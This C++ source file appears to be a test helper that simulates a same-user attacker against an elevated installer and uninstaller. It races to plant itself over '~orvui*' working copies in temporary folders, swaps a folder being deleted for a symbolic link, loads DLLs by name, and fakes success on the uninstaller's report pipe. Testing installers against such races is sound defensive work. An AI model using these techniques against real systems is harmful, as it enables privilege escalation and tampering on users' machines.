// A program of the same user without elevation, as an attacker would run it beside the
// elevated setup or uninstaller. Modes (each loops until the stop file exists):
//   hostile.exe race-working-copy FOLDER[;FOLDER] STOPFILE LOG: replaces every "~orvui*" program
//     (or the folder it lies in) there with this program, by rename and copy or by overwriting;
//   hostile.exe race-swap FOLDER TARGETNAME STOPFILE LOG: once FOLDER starts to empty, renames
//     it away and puts a link to the sibling folder TARGETNAME in its place;
//   hostile.exe load DLL: loads the DLL by name as any program would (exit 0 when loaded);
// and, started in place of the uninstaller's working copy ("-ui" among its arguments), it
// records that in ORV_IMPOSTOR_MARK and reports success on the uninstaller's pipe.
#include <windows.h>

#include <cstdint>
#include <cstdlib>
#include <set>
#include <string>
#include <vector>

namespace {

std::string Self() {
    char path[MAX_PATH];
    const DWORD length = ::GetModuleFileNameA(nullptr, path, MAX_PATH);
    return std::string(path, length);
}

void Append(const std::string& file, const std::string& line) {
    HANDLE h = ::CreateFileA(file.c_str(), FILE_APPEND_DATA, FILE_SHARE_READ | FILE_SHARE_WRITE, nullptr, OPEN_ALWAYS,
                             FILE_ATTRIBUTE_NORMAL, nullptr);
    if (h == INVALID_HANDLE_VALUE) return;
    const std::string text = line + "\r\n";
    DWORD written = 0;
    ::WriteFile(h, text.data(), static_cast<DWORD>(text.size()), &written, nullptr);
    ::CloseHandle(h);
}

bool Exists(const std::string& path) {
    return ::GetFileAttributesA(path.c_str()) != INVALID_FILE_ATTRIBUTES;
}

int ActAsWorkingCopy(const std::string& commandLine) {
    char mark[MAX_PATH];
    const DWORD length = ::GetEnvironmentVariableA("ORV_IMPOSTOR_MARK", mark, MAX_PATH);
    if (length > 0 && length < MAX_PATH) Append(mark, "impostor started: " + commandLine);
    const std::size_t at = commandLine.find("/REPORT=");
    if (at != std::string::npos) {
        HANDLE pipe =
            reinterpret_cast<HANDLE>(static_cast<uintptr_t>(_strtoui64(commandLine.c_str() + at + 8, nullptr, 10)));
        const int32_t success = 0;
        DWORD written = 0;
        ::WriteFile(pipe, &success, sizeof success, &written, nullptr);
    }
    return 0;
}

// Puts this program where the file was: renamed away first, else written over.
void ReplaceProgram(const std::string& path, const std::string& log) {
    if (::MoveFileExA(path.c_str(), (path + ".away").c_str(), 0)) {
        Append(log, ::CopyFileA(Self().c_str(), path.c_str(), TRUE) ? "replaced " + path : "renamed only " + path);
    } else if (::CopyFileA(Self().c_str(), path.c_str(), FALSE)) {
        Append(log, "overwrote " + path);
    }
}

// A working folder renamed away and made again, with this program under every name it held.
void ReplaceFolder(const std::string& folder, const std::string& log) {
    const std::string away = folder + ".away";
    if (!::MoveFileExA(folder.c_str(), away.c_str(), 0)) return;
    ::CreateDirectoryA(folder.c_str(), nullptr);
    WIN32_FIND_DATAA fd;
    HANDLE find = ::FindFirstFileA((away + "\\*.exe").c_str(), &fd);
    if (find == INVALID_HANDLE_VALUE) return;
    do {
        const std::string planted = folder + "\\" + fd.cFileName;
        if (::CopyFileA(Self().c_str(), planted.c_str(), TRUE)) Append(log, "replaced folder of " + planted);
    } while (::FindNextFileA(find, &fd));
    ::FindClose(find);
}

// Races in every folder given (the user's and the system's temporary folders).
void RaceWorkingCopy(const std::string& folders, const std::string& stop, const std::string& log) {
    Append(log, "racing");
    std::set<std::string> seen;
    for (std::size_t round = 0; !Exists(stop); ++round) {
        const std::size_t split = folders.find(';');
        std::string temp = folders;
        if (split != std::string::npos) temp = round % 2 ? folders.substr(split + 1) : folders.substr(0, split);
        WIN32_FIND_DATAA fd;
        HANDLE find = ::FindFirstFileA((temp + "\\~orvui*").c_str(), &fd);
        if (find == INVALID_HANDLE_VALUE) continue;
        do {
            const std::string path = temp + "\\" + fd.cFileName;
            const std::string name = fd.cFileName;
            if (name.find(".away") != std::string::npos) continue;
            if (seen.insert(path).second) Append(log, "saw " + path);
            if (!(fd.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY)) {
                ReplaceProgram(path, log);
                continue;
            }
            WIN32_FIND_DATAA inner;
            HANDLE programs = ::FindFirstFileA((path + "\\*.exe").c_str(), &inner);
            if (programs == INVALID_HANDLE_VALUE) continue;
            do ReplaceProgram(path + "\\" + inner.cFileName, log);
            while (::FindNextFileA(programs, &inner));
            ::FindClose(programs);
            ReplaceFolder(path, log);
        } while (::FindNextFileA(find, &fd));
        ::FindClose(find);
    }
}

// Wine makes no links through Win32, so the link is the host's own, made by its ln.
bool MakeHostLink(const std::string& parent, const std::string& target, const std::string& name) {
    std::string command = "/bin/ln -sfn " + target + " " + name;
    STARTUPINFOA si = {};
    si.cb = sizeof si;
    PROCESS_INFORMATION pi = {};
    if (!::CreateProcessA(nullptr, &command[0], nullptr, nullptr, FALSE, 0, nullptr, parent.c_str(), &si, &pi))
        return false;
    ::CloseHandle(pi.hThread);
    ::CloseHandle(pi.hProcess);
    return true;
}

// The first names of the folder, in the order a deletion meets them.
std::vector<std::string> FirstNames(const std::string& folder, std::size_t count) {
    std::vector<std::string> names;
    WIN32_FIND_DATAA fd;
    HANDLE find = ::FindFirstFileA((folder + "\\*").c_str(), &fd);
    if (find == INVALID_HANDLE_VALUE) return names;
    do {
        const std::string name = fd.cFileName;
        if (name != "." && name != "..") names.push_back(folder + "\\" + name);
    } while (names.size() < count && ::FindNextFileA(find, &fd));
    ::FindClose(find);
    return names;
}

// Watches by name, not by listing: a listing holds the folder open, which would itself keep
// a deletion that wants the folder to itself from starting.
void RaceSwap(const std::string& folder, const std::string& target, const std::string& stop, const std::string& log) {
    const std::vector<std::string> first = FirstNames(folder, 8);
    Append(log, "racing over " + std::to_string(first.size()) + " watched entries");
    for (bool began = false; !began && !Exists(stop);)
        for (const std::string& name : first) began = began || !Exists(name);
    if (Exists(stop)) return;
    Append(log, "deletion began");
    const std::string parent = folder.substr(0, folder.find_last_of('\\'));
    const std::string name = folder.substr(folder.find_last_of('\\') + 1);
    if (::MoveFileExA(folder.c_str(), (folder + ".away").c_str(), 0))
        Append(log, MakeHostLink(parent, target, name) ? "swapped" : "renamed only");
    else
        Append(log, "swap refused: error " + std::to_string(::GetLastError()));
}

}  // namespace

int main(int argc, char** argv) {
    const std::string commandLine = ::GetCommandLineA();
    for (int i = 1; i < argc; ++i)
        if (std::string(argv[i]) == "-ui") return ActAsWorkingCopy(commandLine);
    const std::string mode = argc > 1 ? argv[1] : "";
    if (mode == "load" && argc == 3) return ::LoadLibraryA(argv[2]) ? 0 : 1;
    if (mode == "race-working-copy" && argc == 5)
        RaceWorkingCopy(argv[2], argv[3], argv[4]);
    else if (mode == "race-swap" && argc == 6)
        RaceSwap(argv[2], argv[3], argv[4], argv[5]);
    else
        return 2;
    return 0;
}
